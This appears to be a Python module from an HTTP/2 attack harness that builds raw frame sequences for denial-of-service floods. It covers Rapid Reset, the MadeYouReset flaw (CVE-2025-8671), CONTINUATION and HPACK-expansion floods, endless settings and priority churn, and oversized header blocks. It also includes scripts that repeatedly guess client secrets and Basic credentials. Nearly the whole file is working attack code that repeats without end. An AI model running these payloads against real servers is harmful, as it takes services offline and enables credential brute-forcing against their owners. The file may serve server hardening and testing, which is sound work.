"""HTTP/2 connections that send as much as they can."""

import itertools

from harness import frames
from hostile.templates import (
    FORM,
    MARK,
    SEND_SIZE,
    STREAM,
    Heads,
    Template,
    data_frame,
    form_of,
    headers_frame,
    marked_token,
    opening,
    post_heads,

)

HPACK_TABLE_SIZE = 4096
NEWEST_ENTRY = b"\xbe"  # a header field by the first index of the dynamic table (RFC 7541 sections 2.3.3 and 6.1)
OPEN_STREAMS = range(3, 2 * 100 + 1, 2)


def repeated(data):
    """The same bytes for ever, many at a time."""
    return itertools.repeat(data * max(1, SEND_SIZE // len(data)))


def flood(record, method="POST"):
    """A script: an opening, then requests of record for ever. record is given the header block of a request, and the target."""

    def script(target, _):
        heads = post_heads(target) if method == "POST" else Heads(method, target.path)
        yield opening(heads)
        yield from Template(record(heads.later, target)).sends()

    return script


def repeated_frames(data, before=lambda target: b""):
    """A script: an opening, what is to come before, then the same frames for ever."""

    def script(target, _):
        yield opening(post_heads(target)) + before(target)
        yield from repeated(data)

    return script


def rapid_reset(head, _):
    return headers_frame(head, frames.END_STREAM) + frames.reset(STREAM)


def headers_reset(head, _):
    return headers_frame(head) + frames.reset(STREAM)


def rapid_reset_body(head, target):
    return misses(head, target) + frames.reset(STREAM)


def misses(head, target):
    return headers_frame(head) + data_frame(form_of(marked_token(target)), frames.END_STREAM)


# MadeYouReset (CVE-2025-8671): the server is made to reset the stream itself.


def window_zero(head, target):
    return misses(head, target) + frames.window_update(0, STREAM)


def window_overflow(head, target):
    return misses(head, target) + frames.window_update(0x7FFFFFFF, STREAM)


def data_on_closed(head, target):
    return misses(head, target) + data_frame(b"x")


def self_priority(head, target):
    return misses(head, target) + frames.priority(STREAM, STREAM)


def trailers(head, _):
    """Bodies with a hundred trailers each."""
    fields = b"".join(b"\x10\x04x-%02d\x01y" % i for i in range(100))
    return headers_frame(head) + data_frame(b"token=x") + headers_frame(fields, frames.END_STREAM)


def guesses(head, _):
    return headers_frame(head) + data_frame(b"client_id=front&client_secret=" + MARK + b"&token=x", frames.END_STREAM)


def basic_guesses(target, _):
    """Basic credentials that differ: eight letters of base64 are a secret's six characters."""
    heads = Heads("POST", target.path, [("content-type", FORM)])
    yield opening(heads)
    line = b"\x0f\x08\x22Basic ZnJvbnQ6" + MARK + MARK + b"Zmlu"  # `authorization` in full (RFC 7541 section 6.2.2)
    yield from Template(headers_frame(heads.later + line) + data_frame(b"token=x", frames.END_STREAM)).sends()


def reset_inside_headers(target, peer):
    """A connection error: each costs a connection."""
    heads = post_heads(target)
    yield opening(heads) + frames.frame(frames.HEADERS, frames.END_STREAM, 3, heads.later) + frames.reset(3)


def open_streams(target):
    """Requests whose bodies are still to come."""
    head = post_heads(target).later
    return b"".join(headers_frame(head, stream=stream) for stream in OPEN_STREAMS)


def settings_windows(target, _):
    """The windows of a hundred streams are changed with each frame."""
    yield opening(post_heads(target)) + open_streams(target)
    changes = [frames.settings({frames.INITIAL_WINDOW_SIZE: size}) for size in (0, 65535, 1, 1 << 20)]
    yield from repeated(b"".join(changes))


def low_unknown_frames():
    return b"".join(frames.frame(kind, payload=b"x") for kind in range(0x0B, 0x11))


def unfinished_headers(target):
    return frames.frame(frames.HEADERS, 0, 3, post_heads(target).later)


def continuation(size):
    """A piece of a header block that has no end: one header over and over."""
    line = b"\x00\x01x\x20" + b"y" * 32
    return frames.frame(frames.CONTINUATION, 0, 3, (line * (size // len(line) + 1))[: size - size % len(line)])


def reprioritized(target, _):
    """The tree of a hundred open streams is turned over and over."""
    yield opening(post_heads(target)) + open_streams(target)
    moves = [frames.priority(stream, other) for stream in OPEN_STREAMS for other in (stream + 2, 0)]
    yield from repeated(b"".join(moves))


def hpack_expansion(target, _):
    """One large entry, which then takes a byte to be named again."""
    heads = post_heads(target)
    name, value = b"x", b"y" * (HPACK_TABLE_SIZE - 32 - 1 - 700)
    length = len(value) - 127
    entry = b"\x40\x01" + name + b"\x7f" + bytes([length & 0x7F | 0x80, length >> 7]) + value
    yield opening(heads) + headers_frame(heads.later + entry, frames.END_STREAM, 3)
    indexed = NEWEST_ENTRY * 10000
    # The entries before it have moved on, so the head names them in full.
    head = frames.header_block("POST", target.path)
    yield from Template(headers_frame(head + indexed, frames.END_STREAM)).sends(1 << 20)


def large_headers(target, _):
    """As many headers as fit into two frames, and each in full."""
    yield opening(post_heads(target))
    head = frames.header_block("POST", target.path)
    line = b"\x10\x01x\x7f\x81\x06" + b"y" * (127 + 1 + 6 * 128)
    first = head + line * 15
    record = frames.frame(frames.HEADERS, frames.END_STREAM, STREAM, first)
    record += frames.frame(frames.CONTINUATION, frames.END_HEADERS, STREAM, line * 15)
    yield from Template(record).sends()


def many_headers(head, _):
    return headers_frame(head + b"\x10\x01x\x01y" * 2000, frames.END_STREAM)


def refused_bodies(head, _):
    """Requests whose bodies lie over any bound, and nobody's."""
    return headers_frame(head) + data_frame(b"x" * 16384) * 5 + frames.reset(STREAM)
